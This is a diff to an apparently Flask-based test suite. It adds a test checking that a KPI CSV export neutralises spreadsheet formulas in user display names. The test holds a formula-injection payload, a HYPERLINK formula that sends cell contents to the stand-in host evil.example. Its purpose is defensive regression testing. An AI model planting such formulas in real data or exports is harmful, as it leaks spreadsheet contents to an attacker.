@@ -22,3 +22,15 @@ def test_signature_images_are_not_kept_by_caches(client, world, auth):
     response = client.get(f"/api/blobs/{signature.blob_sha256}", headers=auth(world.owner, password=world.password))
     assert response.status_code == 200 and response.data
     assert response.headers["Cache-Control"] == "private, no-store"
+
+
+def test_the_kpi_csv_neutralises_formulas_in_names(client, world, auth, db):
+    import csv
+    import io
+
+    world.agent_user.display_name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    db.session.commit()
+    response = client.get("/api/kpis.csv", headers=auth(world.owner, password=world.password))
+    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
+    assert rows[0]["agent"] == "'" + world.agent_user.display_name
+    assert rows[1]["assigned"] == "3"  # numbers stay numbers
